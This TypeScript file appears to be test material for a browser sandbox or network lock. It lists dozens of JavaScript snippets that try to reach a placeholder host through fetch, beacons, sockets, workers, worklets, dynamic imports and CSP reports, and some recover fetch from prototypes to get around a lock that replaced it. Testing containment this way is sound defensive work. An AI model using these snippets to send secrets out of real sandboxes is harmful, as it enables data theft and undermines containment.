import type { Attempt } from './attempt.ts'

/** Scripts that ask for something by themselves. */
export const requests: readonly Attempt[] = [
  { title: 'fetch', code: ({ host }) => `await fetch('http://${host}/fetch')` },
  {
    title: 'fetch without cors',
    code: ({ host }) => `await fetch('http://${host}/nocors', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
  },
  {
    title: 'fetch that outlives the page',
    code: ({ host }) => `await fetch('http://${host}/keep', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' })`,
  },
  {
    title: 'fetch after the program ended',
    code: ({ host }) => `setTimeout(() => fetch('http://${host}/later', { mode: 'no-cors' }), 1); 1`,
  },
  { title: 'fetchLater', code: ({ host }) => `fetchLater('http://${host}/fetchlater', { activateAfter: 0 })` },
  {
    title: 'the fetch that the lock replaced, through a Request',
    code: ({ host }) =>
      `await Reflect.construct(Request, ['http://${host}/request']).clone().text(); await globalThis.fetch(new Request('http://${host}/request'))`,
  },
  {
    title: 'the fetch of the Window prototype chain',
    code: ({ host }) =>
      `for (let o = window; o; o = Object.getPrototypeOf(o)) { const f = Object.getOwnPropertyDescriptor(o, 'fetch')?.value; try { await f?.call(window, 'http://${host}/proto') } catch {} }`,
  },
  {
    title: 'XMLHttpRequest',
    code: ({ host }) =>
      `const x = new XMLHttpRequest(); x.open('GET', 'http://${host}/xhr'); x.send(); await new Promise((r) => { x.onloadend = r })`,
  },
  {
    title: 'synchronous XMLHttpRequest',
    code: ({ host }) => `const x = new XMLHttpRequest(); x.open('GET', 'http://${host}/xhr-sync', false); x.send()`,
  },
  {
    title: 'XMLHttpRequest found by its prototype',
    code: ({ host }) =>
      `const X = XMLHttpRequestUpload.prototype.__proto__.constructor; const x = Reflect.construct(X, [], Object); x.open?.('GET', 'http://${host}/xhr-proto')`,
  },
  { title: 'WebSocket', code: ({ host }) => `new WebSocket('ws://${host}/ws')` },
  { title: 'WebSocketStream', code: ({ host }) => `await new WebSocketStream('ws://${host}/wss').opened` },
  { title: 'EventSource', code: ({ host }) => `new EventSource('http://${host}/es')` },
  { title: 'sendBeacon', code: ({ host }) => `navigator.sendBeacon('http://${host}/beacon', 'secret')` },
  {
    title: 'sendBeacon taken off the prototype',
    code: ({ host }) => `Navigator.prototype.sendBeacon.call(navigator, 'http://${host}/beacon2', 'secret')`,
  },
  { title: 'dynamic import', code: ({ host }) => `await import('http://${host}/module.js')` },
  {
    title: 'import of a data address',
    code: ({ host }) => `await import('data:text/javascript,fetch(%22http://${host}/data-import%22)')`,
  },
  {
    title: 'a worker from a blob',
    code: ({ host }) => `new Worker(URL.createObjectURL(new Blob(["fetch('http://${host}/worker')"])))`,
  },
  {
    title: 'a worker from a data address',
    code: ({ host }) => `new Worker('data:text/javascript,fetch(%22http://${host}/dworker%22)')`,
  },
  { title: 'a worker from the network', code: ({ host }) => `new Worker('http://${host}/worker.js')` },
  {
    title: 'a shared worker',
    code: ({ host }) => `new SharedWorker('data:text/javascript,fetch(%22http://${host}/sworker%22)')`,
  },
  { title: 'a service worker', code: ({ host }) => `await navigator.serviceWorker.register('http://${host}/sw.js')` },
  { title: 'an audio worklet', code: ({ host }) => `await new AudioContext().audioWorklet.addModule('http://${host}/aw.js')` },
  { title: 'a paint worklet', code: ({ host }) => `await CSS.paintWorklet.addModule('http://${host}/pw.js')` },
  { title: 'WebTransport', code: ({ udp }) => `await new WebTransport('https://${udp}/wt').ready` },
  {
    title: 'a payment manifest',
    code: ({ host }) =>
      `await new PaymentRequest([{ supportedMethods: 'https://${host}/pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment()`,
  },
  {
    title: 'federated sign-in',
    code: ({ host }) =>
      `await navigator.credentials.get({ identity: { providers: [{ configURL: 'https://${host}/fedcm.json', clientId: 'x' }] } })`,
  },
  { title: 'a WebAssembly stream', code: ({ host }) => `await WebAssembly.instantiateStreaming(fetch('http://${host}/w.wasm'))` },
  { title: 'a font face', code: ({ host }) => `await new FontFace('x', 'url(http://${host}/face.woff)').load()` },
  {
    title: 'an image',
    code: ({ host }) => `new Image().src = 'http://${host}/image'; await new Promise((r) => setTimeout(r, 50))`,
  },
  { title: 'an audio object', code: ({ host }) => `new Audio('http://${host}/audio').play()` },
  {
    title: 'a report',
    code: ({ host, page }) =>
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src none; report-uri http://${host}/report">'); new Image().src = '${page}/x'; await new Promise((r) => setTimeout(r, 50))`,
  },
  { title: "the page's own server", code: ({ page, name }) => `await fetch('${page}/api/${name}')` },
]
